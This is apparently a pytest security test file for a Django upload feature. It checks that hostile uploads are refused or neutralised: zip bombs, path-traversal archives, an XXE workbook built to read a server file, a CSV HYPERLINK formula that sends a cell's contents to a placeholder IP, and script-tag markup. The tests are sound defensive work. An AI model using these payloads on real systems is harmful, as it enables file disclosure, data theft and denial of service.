"""Uploads that mean harm or are broken, through the page and the worker: words and a remedy, never half a state."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from tests.web.diligence_at_work import finished, work, zipped
from tests.web.small_books import write_small_books

from cupel_web.diligence.folders import outputs_of
from cupel_web.diligence.models import DataSet, Version
from cupel_web.kernel.middleware import FORM_BYTES
from cupel_web.kernel.models import User
from cupel_web.kernel.states import JobState
from cupel_web.people.models import Organisation

pytestmark = pytest.mark.django_db

HEADINGS = "site_id,name,kind,country\n"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"Harmless")'
SECRET = "a secret of the server"


def _archive(name: str, content: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return packed.getvalue()


def _send(client: Client, company: Organisation, *files: SimpleUploadedFile) -> tuple[int, str]:
    """Upload and let the worker check: the last status, and what the person reads."""
    form = {"name": "Books", "books": files}
    page = client.post(f"/companies/{company.public_id}/data/upload/", form, follow=True)
    work()
    if page.status_code == 200:
        page = client.get(page.request["PATH_INFO"])
    text = page.content.decode()
    assert "Traceback" not in text
    return page.status_code, text


REFUSED = {
    "a bomb": (_archive("lot.csv", bytes(80 << 20)), "many times its size"),
    "a way out of the folder": (_archive("../../lot.csv", b"x"), "leads out of the folder"),
    "an absolute path": (_archive("/etc/lot.csv", b"x"), "leads out of the folder"),
    "no archive at all": (b"PK\x03\x04 not really", "not a ZIP archive"),
    "nothing in it": (_archive("books/", b""), "holds no file"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_an_archive_that_means_harm_is_refused_whole(
    name: str, company: Organisation, officer_client: Client, workspace: Path
) -> None:
    content, words = REFUSED[name]
    status, text = _send(officer_client, company, SimpleUploadedFile("books.zip", content))
    assert (status, words in text) == (422, True)
    assert "Pack the folder of your books again" in text
    assert not DataSet.objects.exists()
    assert list((workspace / "files").rglob("*")) == []


def _workbook_that_reads_files(target: Path) -> bytes:
    """A workbook whose sheet is an external entity: the text of ``target``, if a reader resolves it."""
    book = openpyxl.Workbook()
    assert book.active is not None
    for row in (["site_id", "name", "kind", "country"], ["S-1", "MARK", "mine", "XA"]):
        book.active.append(row)
    saved, spoiled = io.BytesIO(), io.BytesIO()
    book.save(saved)
    with zipfile.ZipFile(saved) as source, zipfile.ZipFile(spoiled, "w") as copy:
        for part in source.namelist():
            text = source.read(part)
            if part.endswith("sharedStrings.xml"):
                entity = f'<!DOCTYPE x [<!ENTITY secret SYSTEM "{target.as_uri()}">]>'.encode()
                text = entity + text.replace(b"MARK", b"&secret;")
            copy.writestr(part, text)
    return spoiled.getvalue()


def test_a_workbook_cannot_read_files_of_the_server(
    company: Organisation, officer_client: Client, tmp_path: Path, workspace: Path
) -> None:
    (tmp_path / "secret.txt").write_text(SECRET)
    workbook = _workbook_that_reads_files(tmp_path / "secret.txt")
    _status, text = _send(officer_client, company, SimpleUploadedFile("site.xlsx", workbook))
    version = Version.objects.get()
    assert version.job.is_over
    assert SECRET not in text
    kept = [file for file in workspace.rglob("*") if file.is_file()]
    assert not any(SECRET.encode() in file.read_bytes() for file in kept)


BROKEN = {
    "nothing": b"",
    "headings alone": HEADINGS.encode(),
    "a picture under a table's name": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "zero bytes": HEADINGS.encode() + b"S-1,\x00\x00,mine,XA\n",
    "Latin letters in an old encoding": HEADINGS.encode() + "S-1,Zinkhütte Süd,mine,XA\n".encode("latin-1"),
    "two bytes a letter": (HEADINGS + "S-1,Zinkhütte Süd,mine,XA\n").encode("utf-16"),
    "bytes that are no text": HEADINGS.encode() + b"S-1,\xff\xfe\xfd\x80,mine,XA\n",
    "one huge cell": HEADINGS.encode() + b"S-1," + b"x" * (8 << 20) + b",mine,XA\n",
    "one huge line": b"x" * (8 << 20),
    "a quote that never ends": HEADINGS.encode() + b'S-1,"never,mine,XA\n' * 50,
    "rows of all lengths": HEADINGS.encode() + b"S-1\nS-2,a,b,c,d,e,f\n,,,\n",
    "a number as long as a book": HEADINGS.encode() + b"9" * 100_000 + b",n,mine,XA\n",
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_table_ends_in_words_and_never_in_half_a_state(
    name: str, company: Organisation, officer_client: Client
) -> None:
    status, text = _send(officer_client, company, SimpleUploadedFile("site.csv", BROKEN[name]))
    version = Version.objects.get()
    assert status == 200
    assert version.job.is_over
    assert "Cupel made a mistake" not in text
    if version.job.state == JobState.FAILED:
        assert version.job.error
        assert version.job.remedy
        assert (version.snapshot, version.report, version.quarantine) == ("", None, None)


def test_old_encodings_are_read_right(company: Organisation, officer_client: Client) -> None:
    old = SimpleUploadedFile("site.csv", BROKEN["Latin letters in an old encoding"])
    _status, text = _send(officer_client, company, old)
    assert Version.objects.get().rows == 1
    assert "Traceback" not in text


@pytest.fixture
def books_with_formulas(tmp_path: Path) -> Path:
    """Books whose names of sites and parties are formulas, one of them in a row that goes to quarantine."""
    books = write_small_books(tmp_path / "books", spoiled=1)
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    for table, key in (("party", "P-a"), ("site", "M-1")):
        file = next(books.glob(f"{table}.*"))
        lines = file.read_text().splitlines()
        assert any(line.startswith(key) for line in lines)
        file.write_text("\n".join(_with_name(line, quoted) if line.startswith(key) else line for line in lines) + "\n")
    return books


def _with_name(line: str, name: str) -> str:
    key, _old, rest = line.split(",", 2)
    return f"{key},{name},{rest}"


def test_downloads_carry_no_live_formula(
    company: Organisation, officer: User, officer_client: Client, books_with_formulas: Path
) -> None:
    _send(officer_client, company, zipped(books_with_formulas))
    version = Version.objects.get()
    run = finished(version, "2023", officer)
    workbook = (outputs_of(run) / "findings.xlsx").read_bytes()
    quarantine = officer_client.get(f"/companies/{company.public_id}/versions/{version.public_id}/quarantine/")
    assert any(FORMULA in text for _type, text in _cells(workbook))
    for content in (workbook, quarantine.getvalue()):
        types = {kind for kind, _text in _cells(content)}
        assert types
        assert "f" not in types


def _cells(workbook: bytes) -> list[tuple[str, str]]:
    """Type and text of every cell."""
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    return [(cell.data_type, str(cell.value)) for sheet in book for row in sheet.iter_rows() for cell in row]


def test_a_name_that_is_markup_is_shown_as_text(company: Organisation, officer_client: Client) -> None:
    content = HEADINGS.encode() + b"S-1,<script>alert(1)</script>,nonsense,XA\n"
    _status, text = _send(officer_client, company, SimpleUploadedFile("<img src=x>.csv", content))
    assert "<script>alert" not in text
    assert "<img src=x>" not in text


TOO_LARGE: dict[str, Callable[[Organisation], tuple[str, int]]] = {
    "books above the limit": lambda company: (
        f"/companies/{company.public_id}/data/upload/",
        settings.UPLOAD_MAX_BYTES + FORM_BYTES + 1,
    ),
    "a form": lambda _company: ("/language/", FORM_BYTES + 1),
}


@pytest.mark.parametrize("name", TOO_LARGE)
def test_a_body_above_the_limit_is_refused_unread(name: str, company: Organisation, officer_client: Client) -> None:
    address, length = TOO_LARGE[name](company)
    page = officer_client.post(address, CONTENT_LENGTH=length)
    assert page.status_code == 413
    assert "At most" in page.content.decode()


def test_visitors_cannot_send_files(company: Organisation, visitor: Client) -> None:
    address = f"/companies/{company.public_id}/data/upload/"
    assert visitor.post(address, CONTENT_LENGTH=FORM_BYTES + 1).status_code == 413
